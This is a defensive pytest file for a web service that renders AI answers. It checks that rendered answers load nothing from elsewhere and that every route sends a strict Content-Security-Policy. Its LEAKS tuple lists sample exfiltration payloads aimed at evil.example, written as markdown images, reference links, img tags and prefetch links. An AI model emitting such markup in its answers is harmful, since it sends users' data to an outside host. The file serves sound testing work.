"""Attack 31: an image or a reference-style link in an answer that carries data out when it is shown."""

from __future__ import annotations

import pytest
from aiohttp import ClientSession

from tests.attacks.doors import fetch
from tests.attacks.markup import active
from tests.attacks.test_30_model_output_as_markup import answered
from tests.matrix.surface import operations
from tests.matrix.world import World

LEAKS = (
    "![a](https://evil.example/?d=secret)", "![a][r]\n\n[r]: https://evil.example/?d=secret",
    "<img src='https://evil.example/?d=secret'>", "[open](https://evil.example/?d=secret)",
    "https://evil.example/?d=secret", "<link rel=prefetch href=//evil.example>",
)  # fmt: skip
POLICY = {
    "default-src": "'none'", "img-src": "'self'", "connect-src": "'self'", "script-src": "'self'",
    "style-src": "'self'", "font-src": "'self'", "form-action": "'self'",
    "frame-ancestors": "'none'", "base-uri": "'none'",
}  # fmt: skip


@pytest.mark.parametrize("text", LEAKS)
async def test_an_answer_loads_and_links_to_nothing_elsewhere(
    world: World, browser: ClientSession, text: str
) -> None:
    run = await world.ours.told(answered(text))
    page = await fetch(browser, "GET", f"/runs/{run}")
    assert active(page.text) == []


@pytest.mark.parametrize("path", sorted({o.path for o in operations() if "{" not in o.path}))
async def test_every_answer_tells_the_browser_to_load_from_here_alone(
    browser: ClientSession, path: str
) -> None:
    reply = await fetch(browser, "GET", path)
    policy = dict(
        part.strip().split(" ", 1) for part in reply.headers["content-security-policy"].split(";")
    )
    assert policy == POLICY
    assert reply.headers["referrer-policy"] in ("no-referrer", "same-origin")


async def test_a_refusal_carries_the_same_policy(nobody: ClientSession, url: str) -> None:
    for path in ("/v1/documents", "/", "/nowhere", "/static/nothing", "/v1/nowhere"):
        reply = await fetch(nobody, "GET", path)
        assert "img-src 'self'" in reply.headers["content-security-policy"], path
